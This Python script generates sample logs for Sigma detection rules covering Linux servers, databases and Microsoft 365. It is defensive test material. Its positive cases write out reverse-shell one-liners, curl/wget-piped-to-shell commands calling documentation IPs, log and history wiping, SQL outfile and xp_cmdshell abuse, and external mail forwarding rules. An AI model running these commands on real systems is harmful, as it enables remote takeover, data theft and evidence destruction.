"""Writes the samples of the rules for Linux servers, databases, document systems and Microsoft 365 into `rules/cases/sigma`.

python tests/cases/sigma/servers.py
"""

# ruff: noqa: E501 - tables read better in one line a row
from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

from devices import START, Lines, alone, at, case

ATTACKER, OFFICE = "203.0.113.45", "10.20.3.15"
NOBODY = 4294967295


def syslog(program: str, text: str, seconds: int = 0) -> str:
    return f"{at(seconds):%Y-%m-%dT%H:%M:%S}+07:00 portal01 {program}[900]: {text}"


def quoted(word: str) -> str:
    """As the audit daemon writes an argument: in quotes, or in hex where it holds a blank or a quote."""
    return f'"{word}"' if all(33 <= ord(char) < 127 and char != '"' for char in word) else word.encode().hex().upper()


class Audit:
    """A log of the audit daemon under way: a new serial for every event."""

    def __init__(self) -> None:
        self.lines: Lines = []

    def _head(self, kind: str) -> str:
        return f"type={kind} msg=audit({START.timestamp():.3f}:{100 + len(self.lines)}): "

    def ran(self, *words: str, uid: int = 1000, tty: str = "pts0") -> Audit:
        head = self._head("SYSCALL").removeprefix("type=SYSCALL ")
        call = f'arch=c000003e syscall=59 success=yes exit=0 ppid=800 pid=900 auid={NOBODY} uid={uid} gid={uid} euid={uid} tty={tty} ses=3 comm="x" exe="{words[0]}" key="exec"'
        given = " ".join(f"a{n}={quoted(word)}" for n, word in enumerate(words))
        self.lines += [
            f"type=SYSCALL {head}{call}",
            f"type=EXECVE {head}argc={len(words)} {given}",
            f'type=CWD {head}cwd="/"',
        ]
        return self

    def wrote(self, path: str, exe: str) -> Audit:
        head = self._head("SYSCALL").removeprefix("type=SYSCALL ")
        call = f'arch=c000003e syscall=257 success=yes exit=3 ppid=1 pid=901 auid=1000 uid=0 tty=pts0 ses=3 comm="x" exe="{exe}" key="watch"'
        self.lines += [f"type=SYSCALL {head}{call}", f'type=PATH {head}item=0 name="{path}" nametype=NORMAL']
        return self

    def said(self, kind: str, text: str) -> Audit:
        self.lines.append(self._head(kind) + text)
        return self


def ran(*words: str, uid: int = 1000, tty: str = "pts0") -> Lines:
    return Audit().ran(*words, uid=uid, tty=tty).lines


def said(kind: str, text: str) -> Lines:
    return Audit().said(kind, text).lines


def maria(
    operation: str, query: str = "", code: int = 0, ip: str = OFFICE, user: str = "ung-dung", seconds: int = 0
) -> str:
    return f"{at(seconds):%Y%m%d %H:%M:%S},db01,{user},{ip},13,{200 + seconds},{operation},congdan,{query},{code}"


def query(text: str, code: int = 0, seconds: int = 0, user: str = "ung-dung") -> str:
    return maria("QUERY", f"'{text}'", code, user=user, seconds=seconds)


def web(url: str, status: int = 200, seconds: int = 0, ip: str = ATTACKER) -> str:
    return f'{ip} - - [{at(seconds):%d/%b/%Y:%H:%M:%S} +0700] "GET {url} HTTP/1.1" {status} 512 "-" "Mozilla/5.0"'


def cloud(operation: str, seconds: int = 0, **more: Any) -> str:
    when = START + timedelta(seconds=seconds)
    parameters = [{"Name": name, "Value": value} for name, value in more.pop("parameters", {}).items()]
    data = {"CreationTime": f"{when:%Y-%m-%dT%H:%M:%S}", "Operation": operation, "ResultStatus": "True", "UserId": "canbo01@backan.example",
            "Workload": "Exchange", "ClientIP": ATTACKER, **({"Parameters": parameters} if parameters else {}), **more}  # fmt: skip
    return json.dumps(
        {
            "RecordType": 1,
            "CreationDate": data["CreationTime"] + "Z",
            "UserIds": data["UserId"],
            "Operations": operation,
            "AuditData": json.dumps(data),
        }
    )


def linux() -> None:
    new = "new user: name={}, UID={}, GID={}, home=/home/x, shell=/bin/bash, from=/dev/pts/0"
    alone(
        "lin-0010",
        "A second root; an ordinary account is none.",
        [syslog("useradd", new.format("hotro", 0, 0))],
        [syslog("useradd", new.format("canbo05", 1005, 1005))],
    )
    alone(
        "lin-0011",
        "Into a group that rules; into a group of files is none.",
        [syslog("usermod", "add 'hotro' to group 'sudo'")],
        [syslog("usermod", "add 'canbo05' to group 'vanthu'")],
    )
    made = 'pid=950 uid={} auid={} ses=3 msg=\'op=add-user acct="hotro" exe="/usr/sbin/useradd" hostname=portal01 addr=? terminal=? res=success\''
    case(
        "lin-0012",
        "By the web server; by root is what administrators do.",
        [said("ADD_USER", made.format(33, NOBODY))],
        [said("ADD_USER", made.format(0, 1000))],
    )
    case("lin-0013", "A shell that fetches, and questions of an intruder; the portal's converter, and a person, are none.",
         [ran("/usr/bin/dash", "-c", "curl http://203.0.113.9/a -o /tmp/a", uid=33), ran("/usr/bin/whoami", uid=48), ran("/usr/bin/python3.11", "-c", "import pty", uid=33)],
         [ran("/usr/bin/dash", "-c", "soffice --convert-to pdf van-ban.docx", uid=33), ran("/usr/bin/whoami"), ran("/usr/bin/convert", "a.png", "b.jpg", uid=33), ran("/usr/bin/python3", "/opt/cong/manage.py", "gui-thu", uid=33)])  # fmt: skip
    case("lin-0014", "Four ways out; a copy between servers and a port that is tested are none.",
         [ran("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ran("/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
          ran("/usr/bin/python3", "-c", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"), ran("/usr/bin/sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1 > /tmp/f; mkfifo /tmp/g | nc 203.0.113.9 2")],
         [ran("/usr/bin/nc", "-zv", "10.1.1.2", "22"), ran("/usr/bin/bash", "-c", "scp a.tgz may2:/sao-luu"), ran("/usr/bin/python3", "kiem-tra.py")])  # fmt: skip
    case("lin-0015", "Fetched and given to a shell, by a pipe or in its place; fetched into a file, and a script of the machine, are none.",
         [ran("/usr/bin/bash", "-c", "wget -qO- 203.0.113.9/x.sh |/bin/sh"), ran("/usr/bin/bash", "-c", "bash <(curl -s https://x.example/a)")],
         [ran("/usr/bin/bash", "-c", "curl -s https://backan.example/x.txt -o /tmp/x"), ran("/usr/bin/bash", "-c", "cat /opt/x.sh | bash"), ran("/usr/bin/bash", "-c", "curl -s https://backan.example/ds | grep bash")])  # fmt: skip
    job = "(root) CMD ({})"
    alone("lin-0025", "Fetched and run by cron, by sudo; fetched into a file, and a script of the machine, are none.",
          [syslog("CRON", job.format("curl -s http://203.0.113.9/x.sh | bash")), syslog("CRON", job.format("wget -q http://203.0.113.9/x -O /tmp/x; sh /tmp/x")),
           syslog("sudo", "  vanthu : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c curl x.example/a|sh")],
          [syslog("CRON", job.format("curl -s http://203.0.113.9/x.txt -o /tmp/x")), syslog("CRON", job.format("cat /opt/x.sh | bash")), syslog("CRON", job.format("wget -q https://backan.example/sl/wget.html"))])  # fmt: skip
    alone(
        "lin-0016",
        "A service account writes jobs; a person does, and a list is looked at.",
        [syslog("crontab", "(www-data) REPLACE (www-data)")],
        [syslog("crontab", "(quantri) REPLACE (quantri)"), syslog("crontab", "(www-data) LIST (www-data)")],
    )
    case("lin-0017", "Keys and start files by a shell; the package manager writes services, sshd reads keys.",
         [Audit().wrote("/root/.ssh/authorized_keys", "/usr/bin/tee").lines, Audit().wrote("/etc/ld.so.preload", "/usr/bin/bash").lines],
         [Audit().wrote("/etc/systemd/system/nginx.service", "/usr/bin/dpkg").lines, Audit().wrote("/root/.ssh/authorized_keys", "/usr/sbin/sshd").lines, Audit().wrote("/root/.ssh/known_hosts", "/usr/bin/ssh").lines])  # fmt: skip
    case("lin-0018", "Removed, emptied, or its history gone; a rotated file, and reading, are none.",
         [ran("/usr/bin/shred", "-u", "/var/log/auth.log"), ran("/usr/bin/rm", "/root/.bash_history"), ran("/usr/bin/bash", "-c", "cat /dev/null > /var/log/wtmp"), ran("/usr/bin/ln", "-sf", "/dev/null", "/root/.bash_history")],
         [ran("/usr/bin/rm", "/var/log/nginx/access.log.14.gz"), ran("/usr/bin/less", "/var/log/auth.log"), ran("/usr/bin/bash", "-c", "du -s /var/log/nginx > /root/ds.txt"), ran("/usr/bin/grep", "-c", "/root/.bash_history")])  # fmt: skip
    asked = "  vanthu : TTY=pts/0 ; PWD=/home/vanthu ; USER=root ; COMMAND={}"
    alone("lin-0026", "By root through sudo; a rotated file, and reading, are none.",
          [syslog("sudo", asked.format("/usr/bin/rm -rf /var/log/nginx")), syslog("sudo", asked.format("/usr/bin/truncate -s 0 /var/log/auth.log"))],
          [syslog("sudo", asked.format("/usr/bin/tail /var/log/syslog")), syslog("sudo", asked.format("/usr/bin/rm /var/log/syslog.2.gz")), syslog("CRON", job.format("find /var/log -name '*.1' -exec rm {} +"))])  # fmt: skip
    unit = 'pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'unit={} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\''
    case("lin-0019", "Ended by a person, or the sender of logs stopped; the machine goes down, or a printer service stops.",
         [said("DAEMON_END", "op=terminate auid=1000 pid=1 subj=unconfined res=success"), said("SERVICE_STOP", unit.format("rsyslog"))],
         [said("DAEMON_END", f"op=terminate auid={NOBODY} pid=1 subj=unconfined res=success"), said("SERVICE_STOP", unit.format("cups"))])  # fmt: skip
    kernel = "module verification failed: signature and/or required key missing - tainting kernel"
    alone(
        "lin-0020",
        "A module nobody signed; the driver of the virtual machine is known.",
        [syslog("kernel", f"an: {kernel}")],
        [syslog("kernel", f"vboxdrv: {kernel}"), syslog("kernel", "usb 1-1: new high-speed USB device number 5")],
    )
    alone(
        "lin-0021",
        "The card itself; a bridge of containers is none.",
        [syslog("kernel", "device eth0 entered promiscuous mode")],
        [
            syslog("kernel", "device veth12ab entered promiscuous mode"),
            syslog("kernel", "device eth0 left promiscuous mode"),
        ],
    )
    alone("lin-0022", "The trace of the known hole; a program that is not allowed is none.", [syslog("pkexec", "vanthu: The value for the SHELL variable was not found the /etc/shells file [USER=root] [CWD=/tmp] [COMMAND=GCONV_PATH=./a.so:. PATH=GCONV_PATH=.]")],
          [syslog("pkexec", "vanthu: Error executing command as another user: Not authorized [USER=root] [CWD=/home] [COMMAND=/usr/sbin/synaptic]"), syslog("pkexec", "vanthu: The value for the SHELL variable was not found the /etc/shells file [USER=root] [COMMAND=/usr/bin/gedit]")])  # fmt: skip
    case(
        "lin-0023",
        "A pool's address; a build with all cores is none.",
        [ran("/dev/shm/x", "-o", "stratum+tcp://198.51.100.9:3333"), ran("/usr/bin/systemctl", "start", "xmrig")],
        [ran("/usr/bin/make", "-j8"), ran("/usr/bin/pgrep", "xmrig")],
    )
    case(
        "lin-0024",
        "From /tmp and shared memory; an AppImage that mounts itself is none.",
        [ran("/tmp/a", "x"), ran("/dev/shm/.x")],
        [ran("/tmp/.mount_ky-soA1/ky-so"), ran("/usr/bin/ls", "/tmp/a")],
    )


def databases() -> None:
    failed = [maria("FAILED_CONNECT", "", 1045, ATTACKER, "root", 10 * n) for n in range(12)]
    case("db-0010", "Twelve in two minutes; five are none.", [failed], [failed[:5]], "correlation")
    alone(
        "db-0011",
        "From outside; from the portal and refused are none.",
        [maria("CONNECT", ip=ATTACKER)],
        [maria("CONNECT"), failed[0], maria("CONNECT", ip="localhost")],
    )
    case("db-0012", "Twelve tables in two minutes; one table twelve times, and questions with a condition, are none.",
         [[query(f"SELECT /*!40001 SQL_NO_CACHE */ * FROM `bang_{n}`", seconds=10 * n) for n in range(12)]],
         [[query("select * from danh_muc", seconds=10 * n) for n in range(12)], [query(f"select * from bang_{n} where id = 1", seconds=10 * n) for n in range(12)]], "correlation")  # fmt: skip
    alone("db-0013", "A file and a program; a text about them is none.", [query("select 1 into outfile \"/var/www/html/a.php\""), query("copy x to program \"id\""), query("select 1 into/**/dumpfile \"/var/lib/a.so\"")],
          [query("select ten from tep_outfile"), query("insert into tin values (\"outfile\")")])  # fmt: skip
    option = "Configuration option '{}' changed from 0 to {}. Run the RECONFIGURE statement to install."
    alone("db-0014", "Switched on; another option is none.", [f"{at(0):%Y-%m-%d %H:%M:%S}.10 spid52      {option.format('xp_cmdshell', 1)}"],
          [f"{at(0):%Y-%m-%d %H:%M:%S}.10 spid52      {option.format('show advanced options', 1)}"])  # fmt: skip
    alone(
        "db-0015",
        "Gone; refused, and a table of an hour, are none.",
        [
            query("drop table ho_so"),
            query("TRUNCATE TABLE can_bo"),
            query("/* x */ drop database congdan"),
            query("drop table ho_so # tmp_"),
        ],
        [
            query("drop table ho_so", 1142),
            query("drop temporary table t1"),
            query("drop table if exists tmp_bc"),
            query('select "drop table" from x'),
        ],
    )
    case(
        "db-0016",
        "By the web server, by a person; by cron every night.",
        [ran("/usr/bin/mysqldump", "-A", uid=33, tty="(none)"), ran("/usr/bin/pg_dump", "congdan")],
        [ran("/usr/bin/mysqldump", "-A", uid=0, tty="(none)"), ran("/usr/bin/mysql", "congdan")],
    )
    folder = "/qlvb/van-ban/download?id={}"
    case("doc-0010", "A hundred and ten in nine minutes; one document often, and refused ones, are none.", [[web(folder.format(n), seconds=5 * n) for n in range(110)]],
         [[web(folder.format(1), seconds=5 * n) for n in range(110)], [web(folder.format(n), 403, 5 * n) for n in range(110)]], "correlation")  # fmt: skip
    case("api-0010", "Sixty refusals in four minutes; answers, and pages of people, are none.", [[web(f"/api/v1/congdan/{n}", 401, 4 * n) for n in range(60)]],
         [[web(f"/api/v1/congdan/{n}", 200, 4 * n) for n in range(60)], [web(f"/tin/{n}", 403, 4 * n) for n in range(60)]], "correlation")  # fmt: skip
    alone(
        "api-0011",
        "The key stands in the address; the key of a map is public.",
        [web("/api/v1/hoso?client_secret=a1b2c3d4e5f6")],
        [web("/bando?key=a1b2c3d4e5f6"), web("/api/v1/hoso?trang=2")],
    )


def microsoft() -> None:
    alone("m365-0010", "To an address outside; a folder, and forwarding that is ended, are none.", [cloud("New-InboxRule", parameters={"ForwardTo": "x@ngoai.example", "Name": "a"}), cloud("Set-Mailbox", parameters={"ForwardingSmtpAddress": "smtp:x@ngoai.example"})],
          [cloud("New-InboxRule", parameters={"MoveToFolder": "Van ban den"}), cloud("MailItemsAccessed"), cloud("Set-Mailbox", parameters={"ForwardingSmtpAddress": "$null"})], "jsonl")  # fmt: skip
    alone("m365-0011", "Deleted, or put where nobody looks; sorting is none.", [cloud("New-InboxRule", parameters={"DeleteMessage": "True"}), cloud("Set-InboxRule", parameters={"MoveToFolder": "RSS Feeds"})],
          [cloud("New-InboxRule", parameters={"MoveToFolder": "Van ban den"})], "jsonl")  # fmt: skip
    alone(
        "m365-0012",
        "Rights for an application; a group is none.",
        [cloud("Consent to application.")],
        [cloud("Add member to group.")],
        "jsonl",
    )
    alone(
        "m365-0013",
        "Switched off; a second factor that is added is none.",
        [cloud("Disable Strong Authentication."), cloud("Set-MailboxAuditBypassAssociation")],
        [cloud("User registered security info")],
        "jsonl",
    )

    def fetched(n: int, name: str) -> str:
        return cloud("FileDownloaded", 10 * n, Workload="OneDrive", ObjectId=f"https://backan.example/personal/{name}")

    case(
        "m365-0014",
        "Fifty-five in nine minutes; one file often is none.",
        [[fetched(n, f"{n}.docx") for n in range(55)]],
        [[fetched(n, "1.docx") for n in range(55)]],
        "correlation",
        "jsonl",
    )


def main() -> None:
    linux()
    databases()
    microsoft()


if __name__ == "__main__":
    main()
